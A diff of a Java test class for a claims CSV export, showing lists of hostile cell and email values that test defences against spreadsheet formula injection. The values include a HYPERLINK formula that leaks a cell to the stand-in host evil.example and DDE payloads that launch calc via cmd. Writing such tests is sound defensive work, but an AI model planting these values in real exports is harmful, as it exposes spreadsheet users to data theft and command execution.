@@ -108,7 +108,7 @@ public abstract class ClaimsCsvExportContract extends ReportsTestSupport {
       "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Report\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
       "\t=1+1", "\r=1+1", "  =spaced", "'=quoted");
   private static final List<String> HOSTILE_EMAILS = List.of(
-      "=1+1@example.org", "+cmd@example.org", "-x@example.org", "=cmd|calc!A0@example.org",
+      "=1+1@example.org", "+cmd@example.org", "-x@example.org", "=cmd|calc!a0@example.org",
       "ok@example.org", "ok2@example.org", "ok3@example.org", "ok4@example.org");
 
   private String exportHostile(Function<Reports, ClaimsCsvExport> export) {
